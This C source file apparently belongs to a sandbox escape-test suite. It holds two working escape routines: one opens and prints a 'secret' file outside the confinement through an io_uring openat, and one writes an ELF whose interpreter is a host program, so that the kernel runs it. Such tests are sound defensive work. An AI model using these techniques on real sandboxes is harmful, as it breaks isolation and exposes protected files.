/* Attacks that need a structure of the kernel's: a ring of io_uring(7), a program by elf(5). */

#include "escape.h"

#include <elf.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* One openat through a ring, and what it gave. */
static int ring_open(int ring, const struct io_uring_params *params, const char *path)
{
    size_t size = 4096;
    char *entries = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
    char *done = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *wish = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
    if (entries == MAP_FAILED || done == MAP_FAILED || wish == MAP_FAILED)
        return -1;
    memset(wish, 0, sizeof *wish);
    wish->opcode = IORING_OP_OPENAT;
    wish->fd = AT_FDCWD;
    wish->addr = (unsigned long)path;
    *(unsigned *)(entries + params->sq_off.array) = 0;
    __atomic_store_n((unsigned *)(entries + params->sq_off.tail), 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) != 1)
        return -1;
    return ((struct io_uring_cqe *)(done + params->cq_off.cqes))->res;
}

void ring(const struct scene *scene)
{
    struct io_uring_params params = {0};
    char text[4096];
    int file = (int)syscall(SYS_io_uring_setup, 1, &params);
    int opened = file < 0 ? -1 : ring_open(file, &params, below(scene->outside, "secret"));
    ssize_t size = opened < 0 ? 0 : read(opened, text, sizeof text);
    if (size > 0)
        fwrite(text, 1, (size_t)size, stdout);
}

/* A program whose dynamic loader is a program of the host: the kernel would start that one. */
void loader(const struct scene *scene)
{
    struct {
        Elf64_Ehdr header;
        Elf64_Phdr parts[2];
        char loader[LONGEST];
    } program = {0};
    char *arguments[] = {"program", NULL};
    snprintf(program.loader, sizeof program.loader, "%s", below(scene->outside, "program"));
    memcpy(program.header.e_ident, ELFMAG "\2\1\1", 7);
    program.header.e_type = ET_DYN;
    program.header.e_machine = EM_X86_64;
    program.header.e_version = 1;
    program.header.e_phoff = sizeof program.header;
    program.header.e_ehsize = sizeof program.header;
    program.header.e_phentsize = sizeof *program.parts;
    program.header.e_phnum = 2;
    program.parts[0] = (Elf64_Phdr){.p_type = PT_INTERP, .p_flags = PF_R, .p_align = 1};
    program.parts[0].p_offset = offsetof(__typeof__(program), loader);
    program.parts[0].p_filesz = program.parts[0].p_memsz = strlen(program.loader) + 1;
    program.parts[1] = (Elf64_Phdr){.p_type = PT_LOAD, .p_flags = PF_R, .p_align = 4096};
    program.parts[1].p_filesz = program.parts[1].p_memsz = sizeof program;
    remove_tree(WORK "/elf");
    int file = open(WORK "/elf", O_CREAT | O_WRONLY, 0755);
    if (file < 0 || write(file, &program, sizeof program) != (ssize_t)sizeof program || close(file) < 0)
        return;
    if (vfork() == 0) {
        execv(WORK "/elf", arguments);
        _exit(1);
    }
    wait(NULL);
}
